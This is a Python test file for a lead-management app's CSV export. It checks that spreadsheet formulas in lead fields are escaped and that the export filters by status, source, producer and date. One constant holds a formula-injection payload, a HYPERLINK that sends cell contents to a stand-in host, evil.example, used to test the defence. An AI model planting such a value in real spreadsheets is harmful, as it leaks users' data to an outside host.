"""The AMS export: one row per lead in import columns, filtered, and no formula survives."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from leadrouter.bootstrap import Container
from leadrouter.render.spreadsheet import FORMULA_START
from leadrouter.services.reports.export import COLUMNS
from tests.support.factories import make_agency, make_lead, make_producer

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_formula_survives_in_the_export_and_the_text_reads_back_unchanged(
    container: Container, client: TestClient
) -> None:
    agency = make_agency(container)
    make_producer(container, agency.id, 1, licensed_in=("NY",))
    lead = make_lead(
        container,
        agency.id,
        1,
        first_name=HOSTILE,
        last_name="@SUM(1+1)",
        notes="-2+3\tcall after 5",
        source="+Vendor",
    )
    got = client.get("/v1/leads/export.csv", headers=agency.headers)
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("text/csv")
    (row,) = _rows(got.text)
    assert list(row) == list(COLUMNS)
    for column, cell in row.items():
        assert not cell.startswith(FORMULA_START), (column, cell)
    assert row["First Name"] == "'" + HOSTILE
    assert row["Last Name"] == "'@SUM(1+1)"
    assert row["Source"] == "'+Vendor"
    assert row["Notes"].startswith("'-2+3")
    assert row["Lead ID"] == str(lead)
    assert row["Phone"] == "(646) 555-0001"  # national form: no leading '+' to neutralise
    assert (row["Assigned Producer"], row["Status"]) == ("Producer 1", "New")
    assert row["Insurance Type"] == "personal_auto"


def test_the_export_filters_by_status_source_producer_and_dates(
    container: Container, client: TestClient
) -> None:
    agency = make_agency(container)
    alice = make_producer(container, agency.id, 1, licensed_in=("NY",))
    leads = [
        make_lead(container, agency.id, n, source="Referral" if n else "Web") for n in range(3)
    ]
    client.post(
        f"/v1/leads/{leads[1]}/status",
        headers=agency.headers,
        json={"status": "bound", "premium": "1200.00", "policy_number": "H-7"},
    )
    today = container.clock.now().date().isoformat()

    def ids(query: str) -> list[str]:
        got = client.get(f"/v1/leads/export.csv?{query}", headers=agency.headers)
        assert got.status_code == 200, got.text
        return [r["Lead ID"] for r in _rows(got.text)]

    every = [str(i) for i in leads]
    assert ids("") == every
    assert ids("status=bound") == [str(leads[1])]
    assert ids("source=Referral") == every[1:]
    assert ids(f"producer_id={alice}") == every
    assert ids(f"received_from={today}&received_to={today}") == every
    assert ids("received_from=2099-01-01") == []
    assert ids("status=lost&status=bound") == [str(leads[1])]
    bound = _rows(client.get("/v1/leads/export.csv?status=bound", headers=agency.headers).text)
    assert (bound[0]["Status"], bound[0]["Premium"], bound[0]["Policy Number"]) == (
        "Bound",
        "1200.00",
        "H-7",
    )
    assert client.get("/v1/leads/export.csv?status=won", headers=agency.headers).status_code == 422
    assert client.get("/v1/leads/export.csv").status_code == 401
